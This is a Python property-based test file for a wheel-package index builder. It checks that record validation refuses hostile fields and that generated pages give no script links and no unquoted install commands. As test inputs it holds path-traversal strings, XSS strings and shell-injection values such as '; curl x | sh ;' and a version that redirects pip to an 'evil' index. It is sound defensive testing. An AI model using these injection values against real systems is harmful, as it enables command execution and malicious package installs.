"""Records from a store are checked before use (factory/store/check.py); pages quote and prefix what they show.

The property tests generate records whose fields mix valid values with hostile ones: no record that the
check accepts makes the index write outside its root, and no record at all (checked or not) gives a
``javascript:`` or ``data:`` link or a landing-page command with an unquoted shell metacharacter.
"""

from __future__ import annotations

import json
import os
import shlex
import tempfile
import urllib.parse
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypo_kit import accepted, must_accept
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from index_synth import kernel_record, make_wheel
from kernel_factory import variants
from kernel_factory.errors import UnknownVariant
from kernel_factory.index.command import build_index
from kernel_factory.index.landing import project_context
from kernel_factory.index.pages import environment, landing_page, project_pages
from kernel_factory.record import Record
from kernel_factory.store import check as record_check
from kernel_factory.store.catalog import Catalog
from packaging.utils import canonicalize_name

CPU = "torch213-cxx11-cpu-x86_64-linux"
CU = "torch27-cxx11-cu128-x86_64-linux"
BASE = "https://kernels.example.com"
SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Record:
    folder = tmp_path_factory.mktemp("wheels")
    wheel, meta = make_wheel(folder, "img2grey", "1.1.2+torch213cpucxx11", "py3-none-linux_x86_64")
    return kernel_record(wheel, meta, "img2grey", "1.1.2", CPU, repo_id="kernels-community/img2grey")


def raw(record: Record, **change: Any) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(record.to_json())
    data.update(change)
    return data


def test_a_good_record_passes(good: Record) -> None:
    assert record_check.check(raw(good), good.filename) == good
    assert record_check.parse(good.to_json(), good.filename, "files/x.json") == good


@pytest.mark.parametrize(("change", "why"), [
    ({"label": "../../../x"}, "label '../../../x' is not the local label"),
    ({"label": "torch27cu128cxx11"}, "is not the local label of version"),
    ({"variant": CU}, "is not the label of variant"),
    ({"variant": "../x"}, "is not a build variant"),
    ({"name": "javascript:alert(1)//"}, "is not a valid project name"),
    ({"name": "other"}, "does not match the file name"),
    ({"version": "1.0 --index-url https://evil/simple ; curl x | sh ;"}, "is not a valid version"),
    ({"version": "1.1.3+torch213cpucxx11"}, "does not match the file name"),
    ({"filename": "other-1.0-py3-none-any.whl"}, "is not the one its key names"),
    ({"archs": 5}, "'archs' must be a list"),
    ({"archs": [["sm_90"]]}, "'archs' holds"),
    ({"size": "12"}, "'size' must be a whole number"),
    ({"size": True}, "'size' must be a whole number"),
    ({"sha256": "../x"}, "'sha256' must be a sha256"),
    ({"metadata_sha256": 5}, "'metadata_sha256' must be"),
    ({"name": None}, "'name' must be a string"),
    ({"summary": "a\x1bb"}, "'summary' holds a control character"),
    ({"repo_id": "../../evil"}, "is not a Hub repository id"),
    ({"requires_python": ">=3.9\"><script>"}, "is not a version specifier"),
    ({"upload_time": "yesterday"}, "is not like"),
    ({"kind": "root"}, "'kind' must be one of"),
    ({"extra": {"a": [[[[[[[[[1]]]]]]]]]}}, "nests deeper than"),
])
def test_hostile_fields_are_refused(good: Record, change: dict[str, Any], why: str) -> None:
    with pytest.raises(ValueError, match=None) as info:
        record_check.check(raw(good, **change), good.filename)
    assert why in str(info.value), str(info.value)


@pytest.mark.parametrize(("data", "why"), [
    (b"[" * 100_000 + b"]" * 100_000, "damaged (not valid JSON)"),
    (b'{"filename": "img2gr', "damaged (not valid JSON)"),
    (b"[]", "not a valid record (it holds a JSON list, not an object)"),
    (b'{"summary": "' + b"x" * (record_check.MAX_RECORD_BYTES + 1) + b'"}', "more than a record may hold"),
])
def test_damaged_records_are_named_with_their_repair(good: Record, data: bytes, why: str) -> None:
    with pytest.raises(record_check.BadRecord) as info:
        record_check.parse(data, good.filename, "public/files/x.whl.json")
    message = str(info.value)
    assert message.startswith("public/files/x.whl.json: ") and why in message and "\n" not in message
    assert message.endswith("run `kernel-factory index --repair` to rebuild it from its wheel, or delete it and "
                            "rerun build")


@must_accept(100)
@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["27", "28", "210", "213"]), st.sampled_from(["", "-cxx11", "-cxx98"]),
       st.sampled_from(["cpu", "cu126", "cu128", "rocm71", "xpu20252", "metal", "cann81"]),
       st.sampled_from(["x86_64-linux", "aarch64-linux", "aarch64-darwin", "x86_64-windows"]))
def test_for_label_inverts_parse(torch: str, abi: str, backend: str, platform: str) -> None:
    name = f"torch{torch}{abi}-{backend}-{platform}"
    try:
        target = variants.parse(name)
    except UnknownVariant:
        return
    assert target.label is not None
    assert variants.for_label(target.label, [target.platform]) == target
    accepted("test_for_label_inverts_parse")


# -- properties over generated records -------------------------------------------------------------------
HOSTILE = st.sampled_from(["../../../x", "/abs/x", "javascript:alert(1)//", "data:text/html,<b>x", "a b", "$(id)",
                           "`id`", "; curl x | sh ;", "x\ny", "'\"", "..", ".", "", " JavaScript:x", "a/b", "a\\b",
                           "%2e%2e", "<script>", "1.0 --index-url http://evil/simple", "x&y", "!x", "*", "~x"])
NAMES = st.one_of(st.from_regex(r"[A-Za-z0-9]([A-Za-z0-9._-]{0,8}[A-Za-z0-9])?", fullmatch=True), HOSTILE,
                  st.text(max_size=10))
VERSIONS = st.one_of(st.sampled_from(["1.0", "2!1.0.post1", "0.1rc1", "1.1.2"]), HOSTILE, st.text(max_size=8))
LABELS = st.one_of(st.none(), st.sampled_from(["torch213cpucxx11", "torch27cu128cxx11", "cuda", "weird"]), HOSTILE)
VARIANT_NAMES = st.one_of(st.none(), st.sampled_from([CPU, CU, "torch-universal", "torch-cuda"]), HOSTILE)
TAGS = st.sampled_from(["py3-none-any", "cp39-abi3-manylinux_2_28_x86_64", "py3-none-linux_x86_64"])
HEX = "0" * 64


@st.composite
def records(draw: st.DrawFn) -> dict[str, Any]:
    """A record object: consistent by default, with any field swapped for a hostile value."""
    name, version, label = draw(NAMES), draw(VERSIONS), draw(LABELS)
    full = f"{version}+{label}" if label and draw(st.booleans()) else version
    filename = f"{name.replace('-', '_')}-{full}-{draw(TAGS)}.whl"
    data: dict[str, Any] = {
        "filename": draw(st.one_of(st.just(filename), HOSTILE)), "name": name, "version": full,
        "sha256": HEX, "size": 1, "metadata_sha256": HEX, "requires_python": None,
        "upload_time": "2026-01-02T03:04:05Z", "summary": draw(st.one_of(st.just(""), HOSTILE)),
        "kind": draw(st.sampled_from(["kernel", "adopted"])), "label": label, "variant": draw(VARIANT_NAMES),
        "repo_id": draw(st.one_of(st.none(), st.just("org/name"), HOSTILE)),
        "upstream": draw(st.one_of(st.none(), HOSTILE, st.just("https://example.com/x"))),
        "archs": draw(st.lists(st.one_of(st.just("sm_90"), HOSTILE), max_size=2)),
    }
    return data


# Path-like values aimed at the fields the index turns into paths (label: variants/<label>/, name: simple/<name>/,
# file name: files/<wheel>): with that field's check gone, a record escapes the index root. Two or three levels
# up land inside the test's temporary folder (out is <tmp>/site/out), where the walk below sees them.
PATHS = st.sampled_from(["../../x", "../../../x", "a/../../../x", "../../x/y", "../..", "./../../x", "..\\..\\x"])
GOOD_LABELS = {CPU: "torch213cpucxx11", CU: "torch27cu128cxx11"}


@st.composite
def aimed_records(draw: st.DrawFn) -> dict[str, Any]:
    """A valid record (kernel or adopted), or the same with one of label, name, version, variant or file name
    made path-like and everything else kept consistent, so only that field's check stands in the way."""
    name = draw(st.from_regex(r"[a-z][a-z0-9]{0,6}", fullmatch=True))
    version = draw(st.sampled_from(["1.0", "1.1.2", "2!1.0.post1"]))
    variant = draw(st.sampled_from([None, CPU, CU]))
    label = GOOD_LABELS[variant] if variant else draw(st.sampled_from([None, "torch213cpucxx11"]))
    poison = draw(st.sampled_from(["none", "none", "none", "label", "label", "name", "version", "variant", "filename"]))
    bad = draw(PATHS)
    if poison == "label":
        label = bad
    elif poison == "name":
        name = bad
    elif poison == "version":
        version = bad
    elif poison == "variant":
        variant = bad
    full = f"{version}+{label}" if label and poison != "label" else version
    filename = f"{name.replace('-', '_')}-{full}-{draw(TAGS)}.whl"
    return {
        "filename": bad if poison == "filename" else filename, "name": name, "version": full,
        "sha256": HEX, "size": 1, "metadata_sha256": HEX, "requires_python": None,
        "upload_time": "2026-01-02T03:04:05Z", "summary": "", "kind": "kernel" if variant else "adopted",
        "label": label, "variant": variant, "repo_id": "org/name" if variant else None, "upstream": None,
        "archs": [],
    }


class _Attrs(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.commands: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for key, value in attrs:
            if key in ("href", "src"):
                self.links.append(value or "")
            if key == "data-cmd":
                self.commands.append(value or "")


def catalog_of(recs: list[Record]) -> Catalog:
    """A catalog holding ``recs`` as they are (not checked: the catalog takes what it is given)."""
    catalog = Catalog()
    catalog.apply([(str(i), r, None) for i, r in enumerate(recs)], ())
    return catalog


def render(recs: list[Record]) -> dict[str, bytes]:
    """The pages of ``recs`` as pages.py renders them, unchecked (the catalog refuses unchecked records)."""
    env = environment(None)
    labels = {r.label: r.backend for r in recs if isinstance(r.label, str)}
    pages: dict[str, bytes] = {}
    summaries: dict[str, dict[str, object]] = {}
    for project in sorted({canonicalize_name(r.name) for r in recs}):
        made, _labels, summaries[project] = project_pages(
            env, project, [r for r in recs if canonicalize_name(r.name) == project], labels, BASE
        )
        pages.update(made)
    pages["index.html"] = landing_page(env, summaries, labels, BASE)
    return pages


def _safe_command(cmd: str) -> bool:
    """Every word quoted: splitting and joining again gives the same text, and it is five words."""
    words = shlex.split(cmd)
    return shlex.join(words) == cmd and len(words) == 5 and words[:2] == ["pip", "install"]


@SETTINGS
@given(st.lists(records(), min_size=1, max_size=4))
def test_no_record_gives_a_script_link_or_an_unquoted_command(raws: list[dict[str, Any]]) -> None:
    """Even a record that skipped the check: links are relative or http(s), commands quoted word by word."""
    recs = [Record(**{**r, "archs": tuple(r["archs"])}) for r in raws]
    pages = render(recs)
    for path, data in pages.items():
        if not path.endswith(".html"):
            continue
        parser = _Attrs()
        parser.feed(data.decode())
        for link in parser.links:
            scheme = urllib.parse.urlsplit(link.strip()).scheme.lower()
            assert scheme in ("", "http", "https"), (path, link)
            assert scheme or link.startswith(("./", "../", "#")), (path, link)
        for cmd in parser.commands:
            assert _safe_command(cmd), (path, cmd)
    for project in {canonicalize_name(r.name) for r in recs}:
        context = project_context(project, [r for r in recs if canonicalize_name(r.name) == project], BASE)
        if context["kernel"] is not None:
            for version in context["kernel"].versions:
                for row in version.rows:
                    for cell in row.cells:
                        for entry in cell:
                            assert _safe_command(entry.pin_cmd) and _safe_command(entry.variant_cmd)
        if context["adopted"] is not None:
            assert _safe_command(context["adopted"].pin_cmd)


@must_accept(50)
@SETTINGS
@given(st.lists(st.one_of(records(), aimed_records(), aimed_records()), min_size=1, max_size=4))
def test_no_checked_record_writes_outside_the_index_root(raws: list[dict[str, Any]]) -> None:
    """Records aimed at paths (aimed_records) make this fail whichever one check of label, name, version,
    variant or file name is taken out of store/check.py; valid ones among them prove the index is written."""
    checked: dict[str, Record] = {}
    for data in raws:
        key = data["filename"] if isinstance(data["filename"], str) else "x.whl"
        try:
            checked.setdefault(key, record_check.check(json.loads(json.dumps(data)), key))
        except ValueError:
            continue
        accepted("test_no_checked_record_writes_outside_the_index_root")
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp) / "site" / "out"
        out.mkdir(parents=True)
        build_index(out, catalog_of(list(checked.values())), None, BASE)
        for dirpath, dirs, files in os.walk(tmp):
            for name in dirs + files:
                path = Path(dirpath, name)
                assert path == out.parent or out in path.parents or path == out, path


# Closing survivors of `make mutants` (docs/testing.md): each test fails on a mutation the others let through.
def test_limits_are_exact(good: Record) -> None:
    """Items and reasons up to the limit pass, one character more is refused; extra nests to 7 levels (the
    record itself is the 8th), not one more."""
    longest = "x" * record_check.MAX_TEXT
    accepted = record_check.check(raw(good, archs=["sm_90", longest], yanked="broken build"), good.filename)
    assert accepted.archs == ("sm_90", longest) and accepted.yanked == "broken build"
    assert record_check.check(raw(good, yanked=longest), good.filename).yanked == longest
    with pytest.raises(ValueError, match="'archs' holds"):
        record_check.check(raw(good, archs=[longest + "x"]), good.filename)
    with pytest.raises(ValueError, match="'yanked' must be true, false or a reason"):
        record_check.check(raw(good, yanked=longest + "x"), good.filename)
    seven = {"a": [[[[[[1]]]]]]}
    assert record_check.check(raw(good, extra=seven), good.filename).extra == seven
    with pytest.raises(ValueError, match="it nests deeper than 8 levels"):
        record_check.check(raw(good, extra={"a": [[[[[[[1]]]]]]]}), good.filename)


def test_an_adopted_wheel_labelled_for_a_variant_passes(good: Record) -> None:
    """A wheel adopted with --wheels whose local label names a build variant: no variant field, the label kept."""
    data = raw(good, kind="adopted", variant=None, repo_id=None)
    assert record_check.check(data, good.filename).label == "torch213cpucxx11"
